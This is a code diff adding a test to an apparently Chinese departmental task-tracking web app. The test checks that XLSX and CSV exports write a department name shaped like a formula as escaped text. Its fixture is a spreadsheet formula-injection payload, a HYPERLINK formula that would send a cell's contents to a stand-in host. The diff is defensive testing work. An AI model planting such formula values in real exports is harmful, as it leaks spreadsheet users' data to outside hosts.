@@ -143,3 +143,24 @@ def test_a_draft_lists_its_tasks_without_a_lead_and_takes_departments_for_many(w
     wrong = client.post(f"/api/v1/drafts/{draft_id}/assignments", json={"items": ["T1"], "lead": ["区卫健委"],
                                                                         "mode": "merge"})
     assert wrong.status_code == 422
+
+
+FORMULA = '=HYPERLINK("http://x/?d="&B3,"详情")'
+
+
+def test_list_exports_write_a_formula_looking_department_as_text(web: Web) -> None:
+    admin = web.client("admin")
+    renamed = admin.post("/api/v1/departments/rename", json={"old": "区医保局", "new": FORMULA})
+    assert renamed.status_code == 200, renamed.text
+    name = next(i["lead"][0] for i in admin.get(f"{P}/items").json() if i["item_id"] == "T27.M4")
+    assert name.startswith("=HYPERLINK")
+    book = load_workbook(io.BytesIO(admin.get(f"{P}/items", params={"format": "xlsx"}).content))
+    sheet = book.active
+    assert sheet is not None
+    lead = next(row[4] for row in sheet.iter_rows(min_row=2) if row[0].value == "T27.M4")
+    assert lead.data_type == "s" and lead.value == "'" + name  # text, as every other export writes it
+    rows = list(csv.reader(io.StringIO(admin.get(f"{P}/items", params={"format": "csv"}).content.decode("utf-8-sig"))))
+    assert next(r[4] for r in rows if r[0] == "T27.M4") == "'" + name
+    matrix = list(csv.reader(io.StringIO(
+        admin.get(f"{P}/departments", params={"format": "csv"}).content.decode("utf-8-sig"))))
+    assert "'" + name in [r[0] for r in matrix]
